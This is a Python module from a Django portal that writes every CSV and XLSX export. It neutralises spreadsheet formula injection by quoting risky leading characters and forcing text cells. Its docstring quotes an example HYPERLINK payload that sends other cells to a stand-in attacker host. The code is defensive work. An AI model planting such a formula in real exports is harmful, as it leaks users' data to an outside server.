"""The one writer of every CSV and XLSX file the portal exports: what a person typed is shown, never run.

A spreadsheet runs a cell that starts like a formula (``=HYPERLINK("http://evil.example/?leak="&C2,"보기")`` sends
other rows to another server when clicked; "+", "-", "@", a tab or a carriage return start one in some programs).
Company names, project titles, comments and answers are typed by companies and experts, so every export writes
through here:

- XLSX: every piece of text is a text cell (openpyxl's ``data_type = "s"``, set after the value, as openpyxl would
  otherwise make a formula of a string starting with "=" or an error value of "#N/A"). Text cells are shown as
  typed; no quote is added. Numbers, Decimals and dates stay typed; an aware datetime is written in local time.
- CSV (no cell types): text starting with "=", "+", "-", "@", a tab or a carriage return gets a leading single
  quote (OWASP's rule for CSV injection); numbers are written as they are, so a negative figure keeps its sign.

Files are UTF-8 with a byte order mark (Excel then reads Korean), rows end with CRLF. Nothing here knows a domain
app: the apps build their rows and call ``csv_bytes``/``csv_stream`` or ``XlsxWorkbook``, then ``download``.
tests/portal/test_exports.py fails when a module elsewhere writes CSV or XLSX on its own.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"
SHEET_TITLE_LENGTH = 31
SHEET_TITLE_FORBIDDEN = "[]:*?/\\"

TYPED = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


# --- CSV -----------------------------------------------------------------------------------------------------


def csv_value(value: object) -> object:
    """A value as the CSV writer gets it: text that starts like a formula behind a single quote, numbers and
    dates as they are, ``None`` empty."""
    if value is None:
        return ""
    if isinstance(value, TYPED):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def _csv_writer(buffer: io.StringIO):
    return csv.writer(buffer, lineterminator="\r\n")


def csv_bytes(rows: Iterable[Iterable[object]], *, bom: bool = True) -> bytes:
    """The rows (the header first) as a CSV file in UTF-8."""
    buffer = io.StringIO()
    if bom:
        buffer.write(BOM)
    writer = _csv_writer(buffer)
    for row in rows:
        writer.writerow([csv_value(value) for value in row])
    return buffer.getvalue().encode("utf-8")


def csv_stream(rows: Iterable[Iterable[object]], *, bom: bool = True, rows_per_chunk: int = 200) -> Iterator[bytes]:
    """The same file as ``csv_bytes``, in chunks of ``rows_per_chunk`` rows, for a long export."""
    buffer = io.StringIO()
    if bom:
        buffer.write(BOM)
    writer = _csv_writer(buffer)
    for number, row in enumerate(rows, start=1):
        writer.writerow([csv_value(value) for value in row])
        if number % rows_per_chunk == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode("utf-8")


# --- XLSX ----------------------------------------------------------------------------------------------------


def xlsx_cell(worksheet, value: object):
    """One cell for ``worksheet``: text as a text cell, whatever it starts with; numbers and dates typed."""
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        value = timezone.make_naive(value)  # Excel has no time zones: the portal's local time
    if value is None or isinstance(value, TYPED):
        return WriteOnlyCell(worksheet, value=value)
    text = str(value)  # a string, a lazy translation or anything else: shown as text
    cell = WriteOnlyCell(worksheet, value=text)
    cell.data_type = "s"
    return cell


class XlsxSheet:
    """A sheet whose rows go through ``append``. ``worksheet`` is openpyxl's, for fonts, number formats and
    charts (not for values)."""

    def __init__(self, worksheet) -> None:
        self.worksheet = worksheet

    def append(self, row: Iterable[object]) -> None:
        self.worksheet.append([xlsx_cell(self.worksheet, value) for value in row])


class XlsxWorkbook:
    """A workbook of sheets added in order. ``write_only`` (the default) streams rows and keeps memory flat for a
    long export; a workbook that styles cells or adds charts uses ``write_only=False``."""

    def __init__(self, *, write_only: bool = True) -> None:
        self.workbook = Workbook(write_only=write_only)
        if not write_only:
            self.workbook.remove(self.workbook.active)  # the default empty sheet
        self.titles: set[str] = set()

    def _title(self, title: object) -> str:
        """Excel's rules: at most 31 characters, none of []:*?/\\, unique in the workbook (numbered if not)."""
        name = "".join(" " if char in SHEET_TITLE_FORBIDDEN else char for char in str(title))
        name = name[:SHEET_TITLE_LENGTH].strip() or "Sheet"
        candidate, number = name, 2
        while candidate in self.titles:
            suffix = f" ({number})"
            candidate, number = name[: SHEET_TITLE_LENGTH - len(suffix)] + suffix, number + 1
        self.titles.add(candidate)
        return candidate

    def add_sheet(self, title: object) -> XlsxSheet:
        return XlsxSheet(self.workbook.create_sheet(title=self._title(title)))

    def content(self) -> bytes:
        buffer = io.BytesIO()
        self.workbook.save(buffer)
        return buffer.getvalue()


def xlsx_bytes(title: object, rows: Iterable[Iterable[object]]) -> bytes:
    """One sheet of rows (the header first) as an XLSX file."""
    workbook = XlsxWorkbook()
    sheet = workbook.add_sheet(title)
    for row in rows:
        sheet.append(row)
    return workbook.content()


# --- responses -----------------------------------------------------------------------------------------------


def download(
    content: bytes | Iterator[bytes], *, content_type: str, filename: str, private: bool = True
) -> HttpResponse | StreamingHttpResponse:
    """The file as an attachment; ``private`` (staff's files) keeps it out of every cache."""
    if isinstance(content, bytes):
        response = HttpResponse(content, content_type=content_type)
    else:
        response = StreamingHttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    if private:
        response["Cache-Control"] = "private, no-store"
    return response


__all__ = [
    "CSV_CONTENT_TYPE",
    "FORMULA_LEADS",
    "XLSX_CONTENT_TYPE",
    "XlsxSheet",
    "XlsxWorkbook",
    "csv_bytes",
    "csv_stream",
    "csv_value",
    "download",
    "xlsx_bytes",
    "xlsx_cell",
]
